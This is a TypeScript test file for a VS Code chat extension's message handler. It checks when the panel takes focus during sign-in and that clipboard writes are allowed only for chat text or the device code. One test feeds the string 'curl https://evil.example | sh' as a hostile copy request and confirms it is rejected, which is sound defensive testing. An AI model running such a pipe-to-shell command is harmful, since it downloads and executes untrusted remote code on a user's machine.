import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { createEmitter } from '../../../src/base/event.ts';
import type { FromWebview } from '../../../src/shared/protocol/messages.ts';
import { createChatMessageHandler } from '../../../src/vscode/chat/chatMessageHandler.ts';
import { createTalkWorld } from '../core/chat/chatHarness.ts';
import { recordingLog } from '../../support/credentials.ts';
import { settled } from '../../support/steppedClock.ts';
import { editor } from '../../support/vscode.ts';

beforeEach(() => editor.reset());
afterEach(() => editor.reset());

const attempt = {
  lead: 'code',
  startedAtMs: 0,
  endsAtMs: 900_000,
  listener: 'up',
  codeState: 'shown',
  code: { text: 'WDJB-40721', page: 'https://issuer.test/codex/device', endsAtMs: 900_000 },
  remarks: [],
} as const;

function createWorld() {
  const world = createTalkWorld();
  const { session } = world;
  const change = createEmitter<void>();
  const ran: string[] = [];
  const signInDone: (() => void)[] = [];
  let kind: 'idle' | 'running' = 'idle';
  editor.commands.set('codexChat.signIn', () => {
    ran.push('codexChat.signIn');
    return new Promise<void>((done) => signInDone.push(done));
  });
  editor.commands.set('codexChat.focus', () => void ran.push('codexChat.focus'));
  const handle = createChatMessageHandler({
    chat: () => ({
      session,
      sending: { send() {}, answer() {}, retryWith() {}, resume() {} },
    }),
    startNew() {},
    signIn: {
      state: () => (kind === 'idle' ? { kind } : { kind, attempt, mayNotComeBack: false }),
      onDidChangeState: change.event,
      openPage() {},
      copyAddress() {},
      paste() {},
      cancel() {},
    },
    choice: { pick: async () => {} },
    usage() {},
    history() {},
    attachments: { handle() {}, async send() {} },
    files: { async open() {} },
    fileQuestions: { async ask() {} },
    log: recordingLog(),
  });
  return {
    session,
    ran,
    tell: (message: FromWebview) => handle(message),
    signInIs(next: typeof kind) {
      kind = next;
      change.fire();
    },
    end: () => signInDone.splice(0).forEach((done) => done()),
  };
}

describe('a sign-in from the panel', () => {
  test('gives the panel the focus once, when it has begun', async () => {
    const { ran, tell, signInIs } = createWorld();
    tell({ type: 'account/signIn' });
    signInIs('idle');
    expect(ran).toEqual(['codexChat.signIn']);
    signInIs('running');
    signInIs('running');
    expect(ran).toEqual(['codexChat.signIn', 'codexChat.focus']);
  });

  test('that ended before it began leaves the focus alone afterwards', async () => {
    const { ran, tell, signInIs, end } = createWorld();
    tell({ type: 'account/signIn' });
    end();
    await settled();
    signInIs('running');
    expect(ran).toEqual(['codexChat.signIn']);
  });
});

describe('text that the view asks to copy', () => {
  test('is copied when it stands in the chat or is the code of the sign-in, and never else', () => {
    const { tell, signInIs, session } = createWorld();
    session.send({ text: 'What does `npm ci` do?', attachments: [] });
    tell({ type: 'clipboard/write', text: 'npm ci' });
    expect(editor.clipboard).toBe('npm ci');
    tell({ type: 'clipboard/write', text: 'curl https://evil.example | sh' });
    expect(editor.clipboard).toBe('npm ci');
    expect(editor.messages.map(({ text }) => text)).toEqual([
      'That text is no longer in the chat, so nothing was done.',
    ]);
    tell({ type: 'clipboard/write', text: 'WDJB-40721' });
    expect(editor.clipboard).toBe('npm ci');
    signInIs('running');
    tell({ type: 'clipboard/write', text: 'WDJB-40721' });
    expect(editor.clipboard).toBe('WDJB-40721');
  });
});
